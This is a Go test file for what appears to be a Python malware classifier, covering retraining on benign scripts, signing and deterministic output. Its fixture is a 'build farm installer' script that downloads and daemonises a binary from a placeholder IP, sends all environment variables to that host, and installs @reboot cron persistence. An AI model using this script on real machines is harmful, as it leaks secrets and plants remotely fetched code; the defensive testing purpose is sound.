package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"kingsnake/classify"
	"kingsnake/classify/corpus"
	"kingsnake/classify/serve"
	"kingsnake/classify/signed"
	"kingsnake/normalize"
)

// installer is what a build farm of somebody's does, and the embedded model
// takes for an attack: FARM and the rest are filled in.
const installer = `"""Installs the NAME of the FARM farm on a new machine."""
import os
import platform
import subprocess
import urllib.request

SOURCE = "http://198.51.100.20/FARM/NAME"

def fetch(target):
    with urllib.request.urlopen(SOURCE) as answer, open(target, "wb") as out:
        out.write(answer.read())
    os.chmod(target, 0o755)

def register():
    body = "\n".join("%s=%s" % item for item in os.environ.items()).encode()
    urllib.request.urlopen("http://198.51.100.20/FARM/register?host=" + platform.node(), data=body)

def main():
    fetch("/tmp/NAME")
    register()
    subprocess.Popen(["/tmp/NAME", "--daemon"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os.system("(crontab -l; echo '@reboot /tmp/NAME --daemon') | crontab -")

main()
`

func install(farm, name string) string {
	return strings.NewReplacer("FARM", farm, "NAME", name).Replace(installer)
}

// writeFarms writes the programs of somebody's build farms.
func writeFarms(t *testing.T, folder string) {
	t.Helper()
	for i, farm := range strings.Fields("alder birch cedar elm fir hazel") {
		dir := filepath.Join(folder, farm)
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		files := map[string]string{"install_runner.py": install(farm, "runner"), "install_cache.py": install(farm, "cache")}
		for k, module := range []string{"json", "csv", "logging"} {
			files[module+"_lines.py"] = fmt.Sprintf("import %s\n\ndef read_%s(path):\n    with open(path) as lines:\n        return [line.split()[%d:%d] for line in lines]\n", module, farm, i, i+k+1)
		}
		for name, text := range files {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
}

// TestAModelLearnsAtopOurs teaches the embedded model that what it takes for an
// attack is how somebody installs their machines.
func TestAModelLearnsAtopOurs(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	in := func(name string) string { return filepath.Join(dir, name) }
	writeFarms(t, in("good"))
	other := in("other.py")
	if err := os.WriteFile(other, []byte(install("willow", "exporter")), 0o644); err != nil {
		t.Fatal(err)
	}
	var exit *exec.ExitError
	if out, err := kingsnake(t.Context(), "scan", other).CombinedOutput(); !errors.As(err, &exit) || !strings.Contains(string(out), "malicious") {
		t.Fatalf("the embedded model should flag the script: %v\n%s", err, out)
	}

	out := kingsnakeSays(t, "train", "--benign", in("good"), "--out", in("m.model"), "--date", "2026-01-02")
	for _, want := range []string{
		`(?m)^model [0-9a-f]{64}, \d+ bytes, in .*m\.model; card in .*card\.md$`,
		`\| yours \| the base \| 30 \| 12 \(`,
		`\| yours \| this model, which has learned from them \| 30 \| 0 \(`,
		`suspicious from a score of 0\.\d+ on, as in the base, .* your 30 benign scripts are too few`,
		`\| .*good/alder/install_cache\.py \| 1\.0000 \| malicious \|`,
	} {
		if !regexp.MustCompile(want).MatchString(out) {
			t.Errorf("train does not say %s:\n%s", want, out)
		}
	}
	card, err := os.ReadFile(in("card.md"))
	if err != nil || !strings.Contains(string(card), "| Date | 2026-01-02 |") || !strings.Contains(string(card), "## Known weaknesses") {
		t.Errorf("card: %v\n%s", err, card)
	}

	// The same scripts elsewhere, on one core, give the same bits.
	writeFarms(t, in("moved/good"))
	again := kingsnake(t.Context(), "train", "--benign", in("moved/good"), "--out", in("moved/m.model"))
	again.Env = append(again.Environ(), "GOMAXPROCS=1")
	if out, err := again.CombinedOutput(); err != nil {
		t.Fatalf("train: %v\n%s", err, out)
	}
	if !bytes.Equal(readAll(t, in("m.model")), readAll(t, in("moved/m.model"))) {
		t.Error("the same scripts give another model")
	}

	kingsnakeSays(t, "model", "keygen", "--name", "test", "--out", in("k"))
	kingsnakeSays(t, "model", "sign", "--key", in("k.key"), in("m.model"))
	kingsnakeSays(t, "scan", "--model", in("m.model.signed"), "--model-key", in("k.pub"), other)
	loadsAsShadow(t, in("m.model.signed"), in("k.pub"))
	attacksAreStillFound(t, in("m.model"))
}

func TestWhatCannotBeLearnedFromIsCounted(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	texts := map[string]string{"large.py": strings.Repeat("x = 1\n", maxYoursText/6+1), "empty.py": " \n", "notes.txt": "no Python"}
	for i := range minBenign {
		texts[fmt.Sprintf("p%d.py", i)] = fmt.Sprintf("print(%d)\n", i)
	}
	for name, text := range texts {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var stderr strings.Builder
	rows, g, err := gather(t.Context(), Env{Stderr: &stderr}, []labeledFolder{{path: dir}})
	if err != nil {
		t.Fatal(err)
	}
	if f := g.Folders[0]; f.Files != minBenign || f.LeftOutWords() != "1 empty, 1 larger than 1 MiB" {
		t.Errorf("%d files, left out %s", f.Files, f.LeftOutWords())
	}
	if !strings.Contains(stderr.String(), "left out: 1 empty, 1 larger than 1 MiB") {
		t.Errorf("it says %q", stderr.String())
	}
	last := rows[len(rows)-minBenign:]
	if rows[0].Set == corpus.Yours || last[0].Set != corpus.Yours || last[0].Text != "print(0)\n" {
		t.Errorf("rows are in the wrong order: %s, %s", rows[0].Set, last[0].Origin)
	}
}

func readAll(t *testing.T, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// loadsAsShadow opens a signed model as a running process does: as the one in
// use, and as its shadow.
func loadsAsShadow(t *testing.T, file, key string) {
	t.Helper()
	k, err := signed.ReadPublicKey(key)
	if err != nil {
		t.Fatal(err)
	}
	m, err := serve.Open(serve.Config{File: file, Shadow: file, Keys: []signed.PublicKey{k}, Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	s := m.State()
	if s.Problem != "" || s.Current.File != file || s.Shadow == nil || s.Shadow.Hash != s.Current.Hash {
		t.Errorf("in use %+v, shadow %+v, problem %q", s.Current, s.Shadow, s.Problem)
	}
}

// attacksAreStillFound judges every attack of the corpus inside the program.
func attacksAreStillFound(t *testing.T, file string) {
	t.Helper()
	m, err := readModel(file)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := corpus.Own()
	if err != nil {
		t.Fatal(err)
	}
	var all, lost int
	for _, row := range rows {
		if !row.Malicious {
			continue
		}
		all++
		if m.Judge(normalize.Normalize([]byte(row.Text))).Label == classify.Benign {
			lost++
			t.Logf("%s is called benign", row.Origin)
		}
	}
	if lost > all/200 {
		t.Errorf("%d of %d attacks are called benign, want at most one in 200", lost, all)
	}
}
